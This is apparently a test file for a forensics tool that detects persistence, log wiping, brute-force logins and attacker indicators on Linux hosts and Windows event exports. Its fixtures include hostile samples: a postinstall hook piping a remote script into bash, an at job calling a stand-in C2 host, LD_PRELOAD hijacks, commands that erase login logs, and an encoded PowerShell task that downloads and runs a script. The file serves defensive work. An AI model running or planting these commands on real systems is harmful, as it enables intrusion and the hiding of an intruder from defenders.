/** Ways to stay and to hide that sit in units, jobs, rules, packages and event logs, and what administrators have there. */
import { describe, expect, it } from 'vitest';
import { sheetOf } from './sheet-of.ts';

const event = (id: number, time: string, provider: string, data: { [name: string]: string }): string =>
  `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="${provider}"/><EventID>${id}</EventID><TimeCreated SystemTime="${time}"/><Channel>Security</Channel><Computer>W1</Computer></System><EventData>${Object.entries(
    data,
  )
    .map(([name, value]) => `<Data Name="${name}">${value}</Data>`)
    .join('')}</EventData></Event>`;
const SECURITY = 'Microsoft-Windows-Security-Auditing';

describe('what stays behind on a host', () => {
  it('is seen in jobs of at, rules of udev, additions to units and environments of services', async () => {
    const { persistence, indicators } = await sheetOf({
      'var/spool/cron/atjobs/a0000101': '#!/bin/sh\numask 22\n/dev/shm/.q/run -c https://c2.example.net/j\n',
      'etc/udev/rules.d/75-net.rules': 'ACTION=="add", SUBSYSTEM=="net", RUN+="/lib/udev/.upd"\n',
      'etc/systemd/system/db.service.d/override.conf': '[Service]\nEnvironment="LD_PRELOAD=/lib/.libm2.so"\n',
      'etc/default/tomcat9': 'LD_PRELOAD=/dev/shm/.x/libp.so\n',
      'srv/app/node_modules/fmt/package.json': JSON.stringify({
        name: 'fmt',
        scripts: { postinstall: "node -e \"require('child_process').exec('curl -s http://192.0.2.61/n.sh | bash')\"" },
      }),
    });
    expect(new Set(persistence.map(({ proof }) => proof.file.split('/').at(-1)))).toEqual(
      new Set(['a0000101', '75-net.rules', 'override.conf', 'tomcat9', 'package.json']),
    );
    expect(persistence.find(({ kind }) => kind === 'package-script')!.why).toBe(
      'the postinstall script of the package fmt fetches a script and runs it',
    );
    const values = indicators.map(({ value }) => value).join(' ');
    expect(values).toContain('https://c2.example.net/j');
    expect(values).toContain('http://192.0.2.61/n.sh');
  });

  it('is not seen in what packages and administrators put there', async () => {
    const { persistence } = await sheetOf({
      'var/spool/cron/atjobs/a0000201':
        '#!/bin/sh\nTMPDIR=/var/tmp/.build; export TMPDIR\ncd /var/tmp/work || {\n/usr/bin/node report.js\n',
      'etc/udev/rules.d/70-net.rules': 'SUBSYSTEM=="block", RUN+="/lib/udev/hdparm"\n',
      'etc/systemd/system/db.service.d/override.conf':
        '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n',
      'etc/default/tomcat9': 'JAVA_OPTS="-Djava.io.tmpdir=/var/tmp/tomcat"\n',
      'srv/app/node_modules/esbuild/package.json': '{"name":"esbuild","scripts":{"postinstall":"node install.js"}}',
      'srv/app/package.json': '{"name":"app","scripts":{"test":"curl -s http://127.0.0.1/x | sh"}}',
      'root/.bash_history':
        'truncate -s 0 /var/log/nginx/debug.log\nrm /var/log/syslog.2.gz\njournalctl --vacuum-time=30d\necho x 2> /var/log/deploy.log\n',
    });
    expect(persistence).toEqual([]);
  });

  it('is seen where traces of logins were emptied, removed or edited', async () => {
    const lines = [
      'cat /dev/null > /var/log/wtmp',
      ': >/var/log/auth.log',
      'truncate -s 0 /var/log/secure',
      'shred -u /var/log/btmp',
      'sed -i "/192.0.2.1/d" /var/log/auth.log.1',
      'journalctl --rotate --vacuum-time=1s',
      'utmpdump -r < /var/tmp/w > /var/log/wtmp',
    ];
    const { persistence } = await sheetOf({ 'root/.bash_history': `${lines.join('\n')}\n` });
    expect(persistence.map(({ why }) => why)).toEqual(lines.map(() => 'hides its traces'));
  });
});

describe('exported events of Windows', () => {
  const failed = Array.from({ length: 30 }, (_, i) =>
    event(4625, `2026-10-14T21:10:${String(i + 10)}.000Z`, SECURITY, {
      TargetUserName: 'administrator',
      IpAddress: '192.0.2.140',
      LogonType: '3',
    }),
  );
  const script = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.90/a.ps1")', 'utf16le');

  it('join the refusals of network level authentication to the session that followed', async () => {
    const { bruteForce, entry } = await sheetOf({
      'Security.xml': `<Events>${[
        ...failed,
        event(4624, '2026-10-14T21:17:02.000Z', SECURITY, {
          TargetUserName: 'administrator',
          IpAddress: '192.0.2.140',
          LogonType: '10',
        }),
      ].join('\n')}</Events>`,
    });
    expect(bruteForce).toMatchObject([{ address: '192.0.2.140', tries: 30, success: { user: 'administrator' } }]);
    expect(entry).toMatchObject({ how: expect.stringContaining('guessed password of administrator') });
  });

  it('name where the whole command of a task calls, and members of a group by their name', async () => {
    const { indicators, accounts } = await sheetOf({
      'Security.xml': `<Events>${[
        event(4720, '2026-10-14T21:19:10.000Z', SECURITY, {
          TargetUserName: 'svc_bak$',
          TargetSid: 'S-1-5-21-1-2-3-1009',
        }),
        event(4732, '2026-10-14T21:19:20.000Z', SECURITY, {
          TargetUserName: 'Administrators',
          MemberName: '-',
          MemberSid: 'S-1-5-21-1-2-3-1009',
        }),
        event(4698, '2026-10-14T21:25:00.000Z', SECURITY, {
          TaskName: '\\WinUpd',
          TaskContent: `&lt;Exec&gt;&lt;Command&gt;powershell.exe&lt;/Command&gt;&lt;Arguments&gt;-nop -w hidden -enc ${script.toString('base64')}&lt;/Arguments&gt;&lt;/Exec&gt;`,
        }),
      ].join('\n')}</Events>`,
    });
    expect(indicators.map(({ value }) => value)).toContain('http://192.0.2.90/a.ps1');
    expect(indicators.every(({ value }) => !'http://192.0.2.90/a.ps1'.startsWith(value) || value.endsWith('ps1'))).toBe(
      true,
    );
    expect(new Set(accounts.map(({ name }) => name))).toEqual(new Set(['svc_bak$']));
  });
});
